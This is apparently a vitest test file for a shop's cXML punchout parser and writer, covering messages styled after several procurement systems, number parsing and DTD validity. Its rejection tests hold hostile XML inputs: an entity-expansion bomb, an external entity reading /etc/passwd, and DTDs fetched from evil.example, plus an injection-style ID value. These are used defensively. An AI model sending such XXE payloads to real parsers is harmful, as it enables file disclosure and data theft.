// Reads cXML as ten procurement systems write it; everything the shop writes is valid against the DTD, for any cart.
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { readXml } from '#backend/commerce/punchout/cxml/read-xml';
import { writtenCxml } from '#backend/commerce/punchout/cxml/write-cxml';
import { oere } from '#domain/money/money';
import type { DutyWay } from '#domain/punchout/connection';
import { readEnvelope } from '#domain/punchout/cxml/cxml-envelope';
import { decimalIn, wholePieces } from '#domain/punchout/cxml/cxml-numbers';
import { httpStatusOf } from '#domain/punchout/cxml/cxml-status';
import { readHomeCart } from '#domain/punchout/cxml/home-cart';
import { type HomewardCart, orderMessage, unchangedMessage } from '#domain/punchout/cxml/order-message';
import { readOrderRequest } from '#domain/punchout/cxml/order-request';
import { readSetup } from '#domain/punchout/cxml/setup-request';
import { lineOfAuxiliaryId } from '#domain/punchout/cxml/told-line';
import { cxmlAnswer, cxmlMessage, profileAnswer, setupAnswer } from '#domain/punchout/cxml/write-envelope';
import { childAt, childrenNamed, textWithin, type XmlElement, xml } from '#domain/punchout/cxml/xml-element';
import { readDtd } from './support/dtd';
import { anyReturnedLine } from './support/inputs/returned-line';

const FOLDER = new URL('./fixtures/cxml/', import.meta.url);
const fixture = (name: string) => readFileSync(new URL(name, FOLDER), 'utf8');
const dtd = readDtd(fixture('emitted.dtd'));

const bytesOf = (text: string): Uint8Array => Buffer.from(text);
const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
const utf16be = (text: string) => Buffer.from(text, 'utf16le').swap16();

function rootOf(bytes: Uint8Array, contentType: string | null = 'text/xml'): XmlElement {
  const read = readXml(bytes, contentType);
  if (!read.ok) throw new Error(read.why);
  return read.root;
}

function envelopeOf(bytes: Uint8Array) {
  const read = readEnvelope(rootOf(bytes));
  if (!read.ok) throw new Error(read.why);
  return read.envelope;
}

function setupOf(bytes: Uint8Array) {
  const read = readSetup(envelopeOf(bytes).request);
  if (!read.ok) throw new Error(read.why);
  return read.setup;
}

function orderOf(text: string) {
  const read = readOrderRequest(envelopeOf(bytesOf(text)).request);
  if (!read.ok) throw new Error(read.why);
  return read.order;
}

describe('a setup request in the style of', () => {
  test('Ariba: sent by a network for the buyer, with an address and an article', () => {
    const bytes = bytesOf(fixture('ariba-create.xml'));
    expect(envelopeOf(bytes)).toMatchObject({
      payloadId: '1795420800123-7214@10.10.83.39',
      from: [
        { domain: 'NetworkID', identity: 'AN01000000087-T' },
        { domain: 'PrivateID', identity: 'fjordhavn' },
      ],
      sender: [{ domain: 'AribaNetworkUserId', identity: 'sysadmin@ariba.com', secret: 'geheim' }],
      isTest: true,
    });
    expect(setupOf(bytes)).toEqual({
      operation: 'create',
      buyerCookie: ['1CX3L4843PPZO'],
      formPost: 'https://s1.ariba.example/punchout?client=a&responseID=1CX3L4843PPZO',
      shipTo: {
        addressId: '29',
        name: 'Fjordhavn Kommune',
        deliverTo: ['Mette Holm', 'Indgang 4, 2. sal'],
        street: ['Rådhuspladsen 1'],
        city: 'Ærøskøbing',
        postcode: '5970',
        country: 'DK',
        email: null,
        phone: '+4562520000',
      },
      selected: 'KV-100',
      items: [],
    });
  });

  test('Coupa: elements out of order, no version, a time that is not ISO 8601', () => {
    expect(setupOf(bytesOf(fixture('coupa-create.xml')))).toMatchObject({
      buyerCookie: ['99ea3c4c8cf9f6dc905a6b6772daa0d1'],
      formPost: 'https://fjordhavn.coupa.example/punchout/checkout?id=2',
      shipTo: null,
    });
  });

  test('SAP SRM: ISO-8859-1, an edit, formatted prices, a cookie with white space', () => {
    const setup = setupOf(Buffer.from(fixture('sap-srm-edit.xml'), 'latin1'));
    expect(setup.buyerCookie).toEqual(['  rød grød  ']);
    expect(setup.formPost).toBe('https://srm.fjordhavn.example/sap/bc/return?sid=1&x=2');
    expect(setup.items).toMatchObject([
      { lineNumber: '1', sku: 'KV-100', auxiliaryId: '4711', quantity: 2, price: 1234.5, basis: 1 },
      { lineNumber: '2', sku: 'KV-200', auxiliaryId: '4712-2', quantity: 3, price: null },
    ]);
  });

  test('Jaggaer: CDATA for the cookie and the secret', () => {
    const bytes = bytesOf(fixture('jaggaer-create.xml'));
    expect(envelopeOf(bytes)).toMatchObject({
      from: [{ identity: 'fjordhavn-univ' }],
      sender: [{ secret: 'ge<heim&' }],
    });
    expect(setupOf(bytes).buyerCookie.join('')).toBe('1795434073123&sess=<7>');
  });

  test('Oracle iProcurement: cXML 1.1, no UserAgent, an empty SupplierSetup', () => {
    expect(setupOf(bytesOf(fixture('oracle-create.xml'))).buyerCookie).toEqual(['ICX_1795434073']);
  });

  test.each([
    ['with a mark', utf16],
    ['without one', utf16be],
  ])('Basware: UTF-16 %s, an address with only an id', (_name, encode) => {
    const bytes = encode(fixture('basware-create.xml'));
    expect(envelopeOf(bytes).sender[0]?.secret).toBe('hemmelighed æøå');
    expect(setupOf(bytes)).toMatchObject({
      operation: 'source',
      shipTo: { addressId: 'LOC-7', name: 'Skærbæk Bibliotek' },
    });
  });

  test('Tradeshift: prefixes, no DOCTYPE, elements within the cookie', () => {
    const setup = setupOf(bytesOf(fixture('tradeshift-create.xml')));
    expect(setup.buyerCookie).toEqual([
      { name: 'session', attributes: { xmlns: 'urn:ts' }, nodes: [{ name: 'id', attributes: {}, nodes: ['42'] }] },
    ]);
  });

  test('Ivalua: lower case, another order, a leading blank line, an inspection', () => {
    expect(setupOf(bytesOf(fixture('ivalua-inspect.xml')))).toMatchObject({
      operation: 'inspect',
      buyerCookie: ['iv-1'],
      items: [{ sku: 'KV-100', quantity: 1, lineNumber: '10' }],
    });
  });

  test('Workday: a profile request', () => {
    expect(envelopeOf(bytesOf(fixture('workday-profile.xml'))).request.name).toBe('ProfileRequest');
  });
});

describe('a purchase order in the style of', () => {
  test('Ariba: prices for several pieces, a comment, an address', () => {
    expect(orderOf(fixture('ariba-order-new.xml'))).toMatchObject({
      type: 'new',
      orderId: 'PO-4500017',
      requisitionId: 'PR881',
      total: 2539,
      recipient: 'Mette Holm',
      comments: 'Leveres bag huset',
      items: [
        { sku: 'KV-100', quantity: 2, price: 1234.5, basis: 1 },
        { sku: 'KV-200', quantity: 3, price: 70, basis: 3 },
      ],
    });
  });

  test('Coupa: a cancelled order', () => {
    expect(orderOf(fixture('coupa-order-delete.xml'))).toMatchObject({
      type: 'delete',
      orderId: '9871',
      total: 12.5,
      items: [],
    });
  });
});

describe('a rejected document', () => {
  const plain = fixture('coupa-create.xml');
  const body = plain.slice(plain.indexOf('<cXML'));
  const bomb = `<!DOCTYPE cXML [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>${body}`;
  test.each<[string, Uint8Array | string]>([
    ['empty', ''],
    ['text', 'hello'],
    ['cut off', plain.slice(0, 600)],
    ['with an element that is closed twice', plain.replace('</Request>', '</Request></Request>')],
    ['of two roots', `${body}${body}`],
    ['with entities of its own', bomb],
    [
      'with an entity elsewhere',
      `<!DOCTYPE cXML [<!ENTITY x SYSTEM "file:///etc/passwd">]>${body.replace('99ea', '&x;')}`,
    ],
    ['with parameter entities', `<!DOCTYPE cXML [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>${body}`],
    [
      'with a definition of another place and one within',
      `<!DOCTYPE cXML SYSTEM "http://evil.example/cXML.dtd" [<!ELEMENT x ANY>]>${body}`,
    ],
    ['with two DOCTYPEs', plain.replace('<cXML', '<!DOCTYPE cXML SYSTEM "cXML.dtd"><cXML')],
    ['with a DOCTYPE inside', body.replace('<Header>', '<Header><!DOCTYPE cXML SYSTEM "cXML.dtd">')],
    ['with a comment that has no end', `${body}<!-- `],
    ['nested 100,000 deep', '<a>'.repeat(100_000)],
    ['nested 50 deep', `${'<a>'.repeat(50)}${'</a>'.repeat(50)}`],
    ['of 300,000 signs that open nothing', '<!--'.repeat(300_000)],
    [
      'of another encoding than it says',
      Buffer.from(fixture('sap-srm-edit.xml').replace('ISO-8859-1', 'UTF-8'), 'latin1'),
    ],
    ['of an encoding that is not known', plain.replace('UTF-8', 'EBCDIC-CP-DK')],
  ])('%s: 406', (_name, given) => {
    expect(readXml(typeof given === 'string' ? bytesOf(given) : given, null)).toMatchObject({ ok: false, status: 406 });
  });

  const without = (part: RegExp) => plain.replace(part, '');
  test.each<[string, string, number]>([
    ['no cXML', '<order/>', 406],
    ['no payloadID', without(/ payloadID="[^"]*"/), 400],
    ['a payloadID of 10,000 letters', plain.replace(/payloadID="[^"]*"/, `payloadID="${'x'.repeat(10_000)}"`), 400],
    ['no header', without(/<Header>[\s\S]*<\/Header>/), 400],
    ['no sender', without(/<Sender>[\s\S]*<\/Sender>/), 400],
    ['no request', without(/<Request>[\s\S]*<\/Request>/), 400],
    ['two requests', plain.replace('<Request>', '<Request><ProfileRequest/>'), 400],
  ])('%s: %s', (_name, text, status) => {
    expect(readEnvelope(rootOf(bytesOf(text)))).toMatchObject({ ok: false, status });
  });

  test.each<[string, string, number]>([
    ['an unknown operation', plain.replace('"create"', '"destroy"'), 450],
    ['no cookie', without(/<BuyerCookie>.*<\/BuyerCookie>/), 400],
    ['a cookie of 10,000 letters', plain.replace('99ea', 'x'.repeat(10_000)), 400],
    ['nowhere to return to', without(/<BrowserFormPost>.*<\/BrowserFormPost>/), 400],
    ['an edit of nothing', plain.replace('"create"', '"edit"'), 412],
    [
      'half a piece',
      plain.replace(
        '</BuyerCookie>',
        '</BuyerCookie><ItemOut quantity="0.5"><ItemID><SupplierPartID>1</SupplierPartID></ItemID></ItemOut>',
      ),
      400,
    ],
    [
      'an article without a number',
      plain.replace('</BuyerCookie>', '</BuyerCookie><ItemOut quantity="1"><ItemID/></ItemOut>'),
      400,
    ],
  ])('a setup request with %s', (_name, text, status) => {
    expect(readSetup(envelopeOf(bytesOf(text)).request)).toMatchObject({ ok: false, status });
  });

  const order = fixture('ariba-order-new.xml');
  test.each<[string, string, number]>([
    ['in euro', order.replace('"DKK">2539', '"EUR">2539'), 400],
    ['with a line in euro', order.replace('"DKK">1234', '"EUR">1234'), 400],
    ['of an unknown type', order.replace('type="new"', 'type="maybe"'), 450],
    [
      'paid by card',
      order.replace('<Contact role', '<Payment><PCard number="1" expiration="2027-01-01"/></Payment><Contact role'),
      450,
    ],
    ['without a number', order.replace(/orderID="[^"]*"/, ''), 400],
    ['without lines', order.replace(/<ItemOut[\s\S]*<\/ItemOut>/, ''), 400],
    ['with a price that is none', order.replace('1234.50', 'gratis'), 400],
    [
      'of 1,001 lines',
      order.replace(
        '<ItemOut quantity="2"',
        `${'<ItemOut quantity="1"><ItemID><SupplierPartID>1</SupplierPartID></ItemID></ItemOut>'.repeat(999)}<ItemOut quantity="2"`,
      ),
      400,
    ],
  ])('an order %s', (_name, text, status) => {
    expect(readOrderRequest(envelopeOf(bytesOf(text)).request)).toMatchObject({ ok: false, status });
  });

  // Valid, though rarely written so.
  test.each([
    ['a DOCTYPE with an empty list', '<!DOCTYPE cXML SYSTEM "cXML.dtd" [ ]>', ''],
    ['a DOCTYPE elsewhere', '<!DOCTYPE cXML SYSTEM "http://svcdev.ariba.example/schemas/1.2.060/Custom.dtd">', ''],
    ['a DOCTYPE on a disk', '<!DOCTYPE cXML SYSTEM "file:///etc/cXML.dtd">', ''],
    [
      'a DOCTYPE over four lines',
      '<!DOCTYPE\n cXML\n SYSTEM\n "http://xml.cXML.org/schemas/cXML/1.2.008/cXML.dtd"\n>',
      '',
    ],
    ['a DOCTYPE and a prefix everywhere', '<!DOCTYPE c:cXML SYSTEM "cXML.dtd">', 'c:'],
    ['a comment with elements before the DOCTYPE', '<!-- by <System> & Co. --><!DOCTYPE cXML SYSTEM "cXML.dtd">', ''],
    ['a style sheet', '<?xml-stylesheet href="a.xsl" type="text/xsl"?>', ''],
  ])('%s', (_name, before, of) => {
    const name = `<${of}Credential domain='DUNS'><${of}Identity> 1 </${of}Identity><!-- <Identity>2</Identity> --></${of}Credential>`;
    const parties = `<${of}From>${name}${name}</${of}From><${of}To>${name}</${of}To><${of}Sender>${name}</${of}Sender>`;
    const body = `<${of}BuyerCookie xml:lang="da-DK">a<!-- > -->b<![CDATA[<&]]></${of}BuyerCookie><${of}BrowserFormPost Name="x"><${of}URL><![CDATA[https://srm.example:8443/?a=1&b=2]]></${of}URL></${of}BrowserFormPost>`;
    const text = `<?xml version='1.0' standalone="no"?>${before}<${of}cXML xmlns:c="x" payloadID='1'><${of}Header>${parties}</${of}Header><${of}Request><${of}PunchOutSetupRequest>${body}</${of}PunchOutSetupRequest></${of}Request></${of}cXML><!-- end -->`;
    const setup = setupOf(bytesOf(text));
    expect([setup.operation, setup.buyerCookie.join(''), setup.formPost]).toEqual([
      'create',
      'ab<&',
      'https://srm.example:8443/?a=1&b=2',
    ]);
    expect(envelopeOf(bytesOf(text)).from).toEqual([
      { domain: 'DUNS', identity: '1' },
      { domain: 'DUNS', identity: '1' },
    ]);
  });

  test('character references and the five XML entities are decoded, unknown ones stay as they are', () => {
    const root = rootOf(bytesOf('<cXML a="&#248;"><x>&#xE6;&amp;&lt;&unknown;</x></cXML>'));
    expect(root.attributes).toEqual({ a: 'ø' });
    expect(textWithin(childAt(root, 'x'))).toBe('æ&<&unknown;');
  });
});

test.each([
  ['12.50', 12.5],
  ['12,50', 12.5],
  ['1,234.50', 1234.5],
  ['1 234.50', 1234.5],
  ['1\u00a0234,50', 1234.5],
  ['12 345 678', 12_345_678],
  ['1 2', null],
  ['12 34', null],
  ['1 2345', null],
  ['- 5', null],
  ['-5', -5],
  ['1.234,50', null],
  ['0,234.50', null],
  ['+12.50', 12.5],
  ['.5', 0.5],
  ['12.', 12],
  ['.', null],
  ['1,234', null],
  ['', null],
  ['1e5', null],
  ['NaN', null],
  ['0x10', null],
])('parses the number %s', (typed, read) => expect(decimalIn(typed)).toBe(read));

test.each([
  ['2.000', 2],
  ['2', 2],
  ['0', null],
  ['-1', null],
  ['1.5', null],
  ['1000000', null],
])('parses the quantity %s', (typed, read) => expect(wholePieces(typed)).toBe(read));

test.each([
  ['4711', '4711'],
  ['4711-2', '4711'],
  ['4711-AFGIFT', '4711'],
  ['4711-AFGIFT-2', '4711'],
  ['4711;farve=bl%C3%A5;stel=a%3Db', '4711'],
  ['x', null],
  ['', null],
  ['4711; DROP', null],
  ['4711;=x', null],
])('reads the line from the id %s', (id, line) => expect(lineOfAuxiliaryId(id)?.id ?? null).toBe(line));

test('an id contains the chosen options literally', () => {
  expect(lineOfAuxiliaryId('4711-2;farve=bl%C3%A5;stel=a%3Db;rest=100%')?.design).toEqual({
    farve: 'blå',
    stel: 'a=b',
    rest: '100%',
  });
  expect(lineOfAuxiliaryId('4711')?.design).toBeNull();
});

test('an error within the conversation is HTTP 200, an error outside it is not', () => {
  expect([
    httpStatusOf(401, true),
    httpStatusOf(200, false),
    httpStatusOf(406, false),
    httpStatusOf(500, false),
  ]).toEqual([200, 200, 400, 500]);
});

const stamp = { payloadId: '1@shop.example', now: new Date('2026-11-23T08:00:00Z'), version: '1.2.070' };
const parties = {
  from: { domain: 'DUNS', identity: '310000001' },
  to: [{ domain: 'DUNS', identity: '307141900' }],
  secret: null,
};
const agreed = {
  units: { stk: 'EA' },
  understandsPriceUnits: false,
  materialGroups: { papir: '14111507' },
  duties: 'line' as DutyWay,
  freightText: 'Fragt',
  classification: { domain: 'UNSPSC', otherwise: '44120000' },
};

const anyCart: fc.Arbitrary<HomewardCart> = fc.record({
  buyerCookie: fc.constantFrom(['c&1'], ['  <x> '], ['æ']),
  operationAllowed: fc.constantFrom('create', 'inspect', 'edit'),
  lines: fc.array(anyReturnedLine('A'), { maxLength: 3 }),
  freight: fc.option(fc.nat(20_000).map(oere)),
  language: fc.constantFrom('da', 'en'),
});
const anyAgreement = fc.record({
  ...Object.fromEntries(Object.entries(agreed).map(([key, value]) => [key, fc.constant(value)])),
  understandsPriceUnits: fc.boolean(),
  duties: fc.constantFrom('line', 'field', 'price'),
  freightText: fc.constantFrom(null, 'Fragt & told'),
}) as fc.Arbitrary<typeof agreed>;

/** Thousandths of a krone. */
const moneyAt = (element: XmlElement | null) => Math.round(Number(textWithin(childAt(element, 'Money'))) * 1_000);

describe('any cart', () => {
  test('is returned as valid cXML with consecutive lines and its cookie, and adds up to the øre', () => {
    fc.assert(
      fc.property(anyCart, anyAgreement, (cart, agreement) => {
        const message = orderMessage(cart, agreement);
        expect(dtd.faultsIn(message)).toEqual([]);
        const items = childrenNamed(message, 'ItemIn');
        expect(items.map(({ attributes }) => attributes.lineNumber)).toEqual(
          items.map((_, index) => String(index + 1)),
        );
        const rows = items.map((item) => {
          const detail = childAt(item, 'ItemDetail');
          const basis = Number(childAt(detail, 'PriceBasisQuantity')?.attributes.quantity ?? 1);
          return Math.round((moneyAt(childAt(detail, 'UnitPrice')) * Number(item.attributes.quantity)) / basis);
        });
        const sum = rows.reduce((all, row) => all + row, 0);
        const duties =
          agreement.duties === 'field' ? 0 : cart.lines.reduce((all, { duty }) => all + (duty?.row ?? 0), 0);
        expect(sum).toBe(10 * (cart.lines.reduce((all, { row }) => all + row, 0) + duties));
        expect(moneyAt(childAt(message, 'PunchOutOrderMessageHeader', 'Total'))).toBe(sum);
        // As a buyer's system reads it.
        const root = cxmlMessage({ stamp, parties, isTest: false, dtd: 'cXML', body: message }).root;
        expect(readHomeCart(root)).toMatchObject({ faults: [], addsUp: true, total: sum, status: '200' });
      }),
      { numRuns: Number(process.env.CXML_CARTS ?? 300), seed: 20_261_123 },
    );
  });

  test('is unchanged after writing and reading', () => {
    fc.assert(
      fc.property(anyCart, (cart) => {
        const body = orderMessage(cart, agreed);
        const text = writtenCxml(cxmlMessage({ stamp, parties, isTest: false, dtd: 'cXML', body }));
        expect(text).toMatch(/^[\t\n\r -~]*$/);
        const root = rootOf(bytesOf(text));
        expect(dtd.faultsIn(root)).toEqual([]);
        const back = childAt(root, 'Message', 'PunchOutOrderMessage');
        expect(childAt(back, 'BuyerCookie')?.nodes).toEqual(cart.buyerCookie);
        const namesIn = (element: XmlElement | null) =>
          (element ? childrenNamed(element, 'ItemIn') : []).map((item) =>
            textWithin(childAt(item, 'ItemDetail', 'Description')),
          );
        expect(namesIn(back)).toEqual(namesIn(body));
      }),
      { numRuns: 40, seed: 20_261_123 },
    );
  });
});

describe('a reply', () => {
  test.each([
    ['a setup', cxmlAnswer(stamp, { status: 200, body: setupAnswer('https://shop.example/punchout/start/x?a=1&b=2') })],
    [
      'a profile',
      cxmlAnswer(stamp, { status: 200, body: profileAnswer('https://shop.example/punchout/cxml', stamp.now) }),
    ],
    ['a refusal', cxmlAnswer(stamp, { status: 401, why: 'The secret is not right.' })],
    [
      'a visit without a change',
      cxmlMessage({ stamp, parties, isTest: true, dtd: 'cXML', body: unchangedMessage(['x'], 'inspect') }, 204),
    ],
    [
      'an empty cart',
      cxmlMessage({
        stamp,
        parties,
        isTest: true,
        dtd: 'cXML',
        body: orderMessage(
          { buyerCookie: ['x'], operationAllowed: 'edit', lines: [], freight: null, language: 'da' },
          agreed,
        ),
      }),
    ],
  ])('%s is valid', (_name, document) => {
    expect(dtd.faultsIn(document.root)).toEqual([]);
    expect(rootOf(bytesOf(writtenCxml(document))).name).toBe('cXML');
  });

  test('names the DTD that it is valid against', () => {
    expect(writtenCxml(cxmlAnswer(stamp, { status: 200 }))).toContain(
      '<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.070/cXML.dtd">',
    );
  });

  test('a message contains no shared secret', () => {
    const text = writtenCxml(
      cxmlMessage({ stamp, parties, isTest: false, dtd: 'cXML', body: unchangedMessage(['x'], 'edit') }),
    );
    expect(text).not.toContain('SharedSecret');
  });
});

describe('the test’s own DTD', () => {
  test.each([
    ['a child too many', xml('StartPage', {}, xml('URL'), xml('URL'))],
    [
      'children out of order',
      xml('Shipping', {}, xml('Description', { 'xml:lang': 'da' }), xml('Money', { currency: 'DKK' })),
    ],
    ['an attribute too few', xml('Money')],
    ['an attribute too many', xml('URL', { x: '1' })],
    ['a value that is not listed', xml('Message', { deploymentMode: 'maybe' }, xml('PunchOutOrderMessage'))],
    ['text between elements', xml('StartPage', {}, 'x', xml('URL'))],
    ['an unknown element', xml('Nothing')],
  ])('rejects %s', (_name, element) => expect(dtd.faultsIn(element)).not.toEqual([]));
});
